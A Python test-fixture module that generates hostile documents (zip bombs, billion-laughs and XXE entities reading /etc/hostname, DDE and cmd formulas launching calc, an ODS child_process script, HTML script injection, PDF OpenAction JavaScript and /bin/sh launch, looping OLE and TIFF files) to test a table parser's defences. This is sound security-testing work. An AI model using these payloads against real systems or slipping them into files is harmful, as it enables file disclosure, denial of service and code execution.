"""Makes hostile files of every format; how hostile is told by numbers, so that tests make small ones.

Each holds the same little table where it still can, so that what is read can be told from nothing.
`url` is an address at which somebody listens: nobody may ask there.
"""

import io
import struct
import zipfile
import zlib

from tests.documents.word_maker import cell, document_xml, paragraph, row, table, write_docx

NAME = "群众满意度"
ROWS = (
    ("项目名称", "一级指标", "二级指标", "三级指标", "指标值"),
    ("河道清淤", "产出指标", "数量指标", "清淤河道长度", "≥12公里"),
    ("河道清淤", "满意度指标", "服务对象满意度", NAME, "≥90%"),
)
ENTITIES = '<!DOCTYPE x [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">{more}]>'


def outside(url):
    """Give entities that stand in other files."""
    return (
        f'<!DOCTYPE x [<!ENTITY z SYSTEM "file:///etc/hostname"><!ENTITY % p SYSTEM "{url}"> %p;]>'
    )


def laughs(depth):
    """Give entities each of which is ten times the one before."""
    names = "abcdefghijklmnopqrstuvwxyz"
    tenfold = [f"&{name};" * 10 for name in names]
    more = "".join(f'<!ENTITY {names[i]} "{tenfold[i - 1]}">' for i in range(1, depth + 1))
    return ENTITIES.format(more=more + f'<!ENTITY z "&{names[depth]};">')


def pack(members, method=zipfile.ZIP_DEFLATED):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as package:
        for name, content in members.items():
            package.writestr(name, content)
    return stream.getvalue()


def zip_bomb(name, n_bytes, *, before=b"", members=()):
    """Pack one member of `before` and so many zeros, written piece by piece."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
        for other, content in dict(members).items():
            package.writestr(other, content)
        with package.open(name, "w", force_zip64=True) as member:
            member.write(before)
            piece = b"0" * 10_000_000
            for _ in range(n_bytes // len(piece)):
                member.write(piece)
            member.write(piece[: n_bytes % len(piece)])
    return stream.getvalue()


def nested_zip(depth, content):
    for level in range(depth):
        content = pack({f"第{level}层.zip" if level else "表.csv": content})
    return content


def set_sizes(content, n_bytes):
    """Let a zip of one member say another unpacked size, in both places."""
    content = bytearray(content)
    struct.pack_into("<I", content, 22, n_bytes)
    struct.pack_into("<I", content, content.rindex(b"PK\x01\x02") + 24, n_bytes)
    return bytes(content)


def set_flag(content, flag):
    """Set a flag of the first member of a zip, in both places."""
    content = bytearray(content)
    content[6] |= flag
    content[content.index(b"PK\x01\x02") + 8] |= flag
    return bytes(content)


def csv_text(rows=ROWS, delimiter=","):
    return "\r\n".join(delimiter.join(each) for each in rows)


# ---------------------------------------------------------------------------------------- xlsx

_MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELATIONS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'


def xlsx_rows(rows=ROWS):
    return "".join(
        "<row>"
        + "".join(f'<c t="inlineStr"><is><t>{text}</t></is></c>' for text in each)
        + "</row>"
        for each in rows
    )


def xlsx(
    rows=None,
    *,
    before="",
    behind="",
    target="worksheets/sheet1.xml",
    sheets="",
    members=(),
    external="",
):
    """Make a workbook of one sheet.

    :param rows: XML of its rows.
    :param before: What stands before the root of the sheet's part.
    :param behind: What stands behind its rows: merges and the like.
    :param sheets: Further sheets of the list.
    """
    rows = xlsx_rows() if rows is None else rows
    return pack(
        {
            "[Content_Types].xml": "<Types/>",
            "_rels/.rels": f'<Relationships {_RELATIONS}><Relationship Id="r1" '
            f'Type="{_RELATED}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
            "xl/workbook.xml": f'<workbook {_MAIN} xmlns:r="{_RELATED}"><sheets>'
            f'<sheet name="表" sheetId="1" r:id="s1"/>{sheets}</sheets></workbook>',
            "xl/_rels/workbook.xml.rels": f'<Relationships {_RELATIONS}><Relationship Id="s1" '
            f'Type="{_RELATED}/worksheet" Target="{target}"/>{external}</Relationships>',
            "xl/worksheets/sheet1.xml": f"{before}<worksheet {_MAIN}><sheetData>{rows}</sheetData>"
            f"{behind}</worksheet>",
            **dict(members),
        }
    )


def xlsx_merges(n):
    """Merge over and over below the table; all lie over each other."""
    merges = "".join(
        f'<mergeCell ref="A{i % 1000 + 5}:XFD{i % 1000 + 40 + i % 7}"/>' for i in range(n)
    )
    return xlsx(behind=f"<mergeCells>{merges}</mergeCells>")


def xlsx_columns(n):
    return xlsx(xlsx_rows() + f"<row>{'<c><v>1</v></c>' * n}</row>")


def xlsx_formulas(url):
    """Put what Excel would run or fetch where texts, results and names stand."""
    commands = (
        '=cmd|"/C calc"!A0',
        f'=WEBSERVICE("{url}")',
        f'=HYPERLINK("{url}")',
        "+1+1",
        "@SUM(1)",
    )
    typed = [(f"项目{i}", "产出指标", "数量指标", text, "≥1次") for i, text in enumerate(commands)]
    rows = xlsx_rows((*ROWS, *((*map(_escaped, each),) for each in typed)))
    formula = "".join(
        f'<c t="str"><f>{_escaped(text)}</f><v>{text_of}</v></c>'
        for text, text_of in zip(
            commands, ("河道清淤", "效益指标", "社会效益", "受益人数", "≥5人"), strict=True
        )
    )
    link = f'<Relationship Id="e1" Type="{_RELATED}/externalLink" Target="{url}" TargetMode="External"/>'
    return xlsx(rows + f"<row>{formula}</row>", external=link)


def _escaped(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


def xlsx_formats(n):
    """Give a cell a number format as long and as nested as can be."""
    code = "[=1]" * n + "#,##0" * n + "0." * n + "y/m/d" * n
    styles = (
        f'<styleSheet {_MAIN}><numFmts><numFmt numFmtId="200" formatCode="{code}"/></numFmts>'
        '<cellXfs><xf numFmtId="0"/><xf numFmtId="200"/></cellXfs></styleSheet>'
    )
    rows = xlsx_rows() + '<row><c s="1"><v>45000.5</v></c><c s="1"><v>1e999</v></c></row>'
    related = f'<Relationship Id="t1" Type="{_RELATED}/styles" Target="styles.xml"/>'
    return xlsx(rows, members={"xl/styles.xml": styles}, external=related)


def xlsx_many_sheets(n):
    """List the one part as so many sheets."""
    return xlsx(
        sheets="".join(f'<sheet name="表{i}" sheetId="{i}" r:id="s1"/>' for i in range(2, n))
    )


# ----------------------------------------------------------------------------------------- ods

_ODF = "urn:oasis:names:tc:opendocument:xmlns:"
_ODS = (
    f'<office:document-content xmlns:office="{_ODF}office:1.0" xmlns:table="{_ODF}table:1.0" '
    f'xmlns:text="{_ODF}text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink">{{scripts}}'
    "<office:body><office:spreadsheet>{inside}</office:spreadsheet></office:body>"
    "</office:document-content>"
)


def ods_rows(rows=ROWS, marks=""):
    cells = "<table:table-cell{}><text:p>{}</text:p></table:table-cell>"
    return "".join(
        f"<table:table-row>{''.join(cells.format(marks, text) for text in each)}</table:table-row>"
        for each in rows
    )


def ods(rows=None, *, before="", scripts=""):
    rows = ods_rows() if rows is None else rows
    inside = f'<table:table table:name="表">{rows}</table:table>'
    return pack(
        {
            "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
            "content.xml": before + _ODS.format(scripts=scripts, inside=inside),
        }
    )


def ods_repeated(n, what="columns"):
    marks = f' table:number-{what}-repeated="{n}"'
    if what == "columns":
        return ods(ods_rows() + ods_rows([("宽",)], marks))
    return ods(
        ods_rows() + ods_rows([("高",)]).replace("<table:table-row", f"<table:table-row{marks}")
    )


def ods_scripts(url):
    scripts = (
        '<office:scripts><office:script script:language="JavaScript" xmlns:script="urn:x">'
        f'require("child_process").exec("touch x")</office:script><office:event-listeners xlink:href="{url}"/>'
        "</office:scripts>"
    )
    formula = f' table:formula="of:=WEBSERVICE(&quot;{url}&quot;)"'
    return ods(ods_rows(ROWS[:1]) + ods_rows(ROWS[1:], formula), scripts=scripts)


# ---------------------------------------------------------------------------------- docx, word


def docx_table(rows=ROWS):
    return table(*(row(*each) for each in rows))


def docx(folder, body=None, *, before="", members=()):
    path = folder / "made.docx"
    write_docx(path, "", xml=before + document_xml(docx_table() if body is None else body))
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as package:
        for name, content in dict(members).items():
            package.writestr(name, content)
    content = path.read_bytes()
    path.unlink()
    return content


def docx_nested(depth):
    inside = paragraph("底")
    for _ in range(depth):
        inside = f"<w:tbl><w:tr><w:tc>{inside}<w:p/></w:tc></w:tr></w:tbl>"
    return docx_table() + inside


def docx_columns(n):
    return docx_table() + f"<w:tbl><w:tr>{cell('宽') * n}</w:tr></w:tbl>"


def docx_spans(n_rows, n_cells):
    """Merge each cell with its neighbour, row after row."""
    return docx_table() + table(*[row(*[cell("跨", span=2)] * n_cells)] * n_rows)


def docx_links(url):
    """Fetch and run by fields, links and chunks."""
    field = f'<w:r><w:instrText>DDEAUTO c:\\\\x.exe "/k calc"</w:instrText></w:r><w:fldSimple w:instr="INCLUDETEXT {url}"/>'
    relations = (
        f'<Relationships {_RELATIONS}><Relationship Id="c1" Type="{_RELATED}/aFChunk" Target="{url}" '
        f'TargetMode="External"/><Relationship Id="c2" Type="{_RELATED}/attachedTemplate" '
        f'Target="{url}" TargetMode="External"/></Relationships>'
    )
    body = f'<w:p>{field}</w:p><w:altChunk r:id="c1" xmlns:r="{_RELATED}"/>{docx_table()}'
    return body, {"word/_rels/document.xml.rels": relations}


# ----------------------------------------------------------------------------- html, xml sheet


def html_table(rows=ROWS):
    return f"<table>{''.join('<tr><td>' + '<td>'.join(each) for each in rows)}</table>"


def html(inside="", *, before=""):
    return (
        f"{before}<html><head><meta charset=utf-8></head><body>{html_table()}{inside}</body></html>"
    )


def html_active(url):
    """Everything in a page that a browser would run or fetch."""
    return html(
        f'<script src="{url}"></script><script>document.write("写入")</script><img src="{url}" onerror="alert(1)">'
        f'<iframe src="{url}"></iframe><link rel=stylesheet href="{url}"><object data="{url}"></object>'
        f'<svg onload="alert(1)"><image href="{url}"/></svg><meta http-equiv=refresh content="0;{url}">',
        before=f'<!doctype html SYSTEM "{url}">',
    )


def html_spans(n_rows, n_cells, mark="colspan=2"):
    one_row = "<tr>" + f"<td {mark}>跨" * n_cells
    return html(f"<table>{one_row * n_rows}</table>")


_XML_SHEET = (
    '<?xml version="1.0"?>{before}<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
    'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="表"><Table>{rows}'
    "</Table></Worksheet></Workbook>"
)


def xml_sheet(more="", before=""):
    cells = ["".join(f"<Cell><Data>{text}</Data></Cell>" for text in each) for each in ROWS]
    rows = "".join(f"<Row>{each}</Row>" for each in cells)
    return _XML_SHEET.format(before=before, rows=rows + more)


# --------------------------------------------------------------------------------- xls and OLE


def ole(*streams):
    """Make the smallest OLE file whose root holds empty streams of these names."""
    entries = [_entry("Root Entry", 5, child=1)]
    entries += [
        _entry(name, 2, right=number + 1 if number < len(streams) else -1)
        for number, name in enumerate(streams, start=1)
    ]
    header = bytearray(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(76, b"\0"))
    struct.pack_into("<HHHHH", header, 24, 62, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIII", header, 44, 1, 1, 0, 4096, 0xFFFFFFFE, 0)
    header += struct.pack("<I", 0) + b"\xff" * (109 * 4 - 4)
    sectors = struct.pack("<III", 0xFFFFFFFD, 2, 0xFFFFFFFE) + b"\xff" * 500
    return bytes(header) + sectors + b"".join(entries).ljust(1024, b"\0")


def _entry(name, kind, child=-1, right=-1):
    raw = f"{name}\0".encode("utf-16-le")
    head = raw.ljust(64, b"\0") + struct.pack("<HBBiii", len(raw), kind, 1, -1, right, child)
    return head.ljust(116, b"\0") + struct.pack("<iQ", -2, 0)


def xls(rows=ROWS):
    import xlwt

    workbook = xlwt.Workbook()
    sheet = workbook.add_sheet("表")
    for number, texts in enumerate(rows):
        for column, text in enumerate(texts):
            sheet.write(number, column, text)
    stream = io.BytesIO()
    workbook.save(stream)
    return stream.getvalue()


def xls_loop(content):
    """Let the chain of sectors go round: each one's next is itself."""
    content = bytearray(content)
    sector = struct.unpack_from("<I", content, 76)[0]
    struct.pack_into("<128I", content, (sector + 1) * 512, *range(128))
    return bytes(content)


# ---------------------------------------------------------------------------------- pdf, image


def pdf(
    *,
    stream=b"BT /F 12 Tf 60 700 Td (Name) Tj ET",
    count=1,
    kids="3 0 R",
    catalog="",
    trailer="",
    filter="",
):
    """Write a PDF of one page by hand."""
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode(),
        f"<< /Type /Pages /Kids [{kids}] /Count {count} >>".encode(),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font"
        b" << /F 5 0 R >> >> >>",
        f"<< /Length {len(stream)} {filter} >>\nstream\n".encode() + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    written, places = b"%PDF-1.4\n", []
    for number, text in enumerate(objects, start=1):
        places.append(len(written))
        written += f"{number} 0 obj\n".encode() + text + b"\nendobj\n"
    at = len(written)
    entries = "".join(f"{place:010} 00000 n \n" for place in places)
    written += f"xref\n0 6\n0000000000 65535 f \n{entries}".encode()
    return (
        written + f"trailer << /Size 6 /Root 1 0 R {trailer} >>\nstartxref\n{at}\n%%EOF\n".encode()
    )


LOCK = f"/Encrypt << /Filter /Standard /V 1 /R 2 /O <{'41' * 32}> /U <{'42' * 32}> /P -4 >> /ID [<41> <41>]"


def pdf_bomb(n_bytes):
    """Pack a page's content so that it unpacks to so many blanks."""
    packer = zlib.compressobj(9)
    piece = b" " * 10_000_000
    packed = b"".join(packer.compress(piece) for _ in range(n_bytes // len(piece)))
    return pdf(stream=packed + packer.flush(), filter="/Filter /FlateDecode")


def pdf_active(url):
    action = (
        f"<< /S /JavaScript /JS (app.launchURL\\('{url}'\\)) /Next << /S /Launch /F (/bin/sh) >> >>"
    )
    return pdf(catalog=f"/OpenAction {action} /AA << /WC << /S /URI /URI ({url}) >> >>")


def png(width, height, data=b"", *chunks):
    """Write a PNG that says its size, whatever it holds."""
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    written = (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + b"".join(_chunk(*each) for each in chunks)
    )
    return written + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def _chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def tiff_loop():
    """Write a TIFF whose first page says that the next one is the first."""
    entries = [
        (256, 4, 1, 8),
        (257, 4, 1, 8),
        (258, 3, 1, 8),
        (262, 3, 1, 1),
        (273, 4, 1, 8),
        (279, 4, 1, 64),
    ]
    written = b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", len(entries))
    written += b"".join(struct.pack("<HHII", *each) for each in entries)
    return written + struct.pack("<I", 8) + b"\xff" * 64
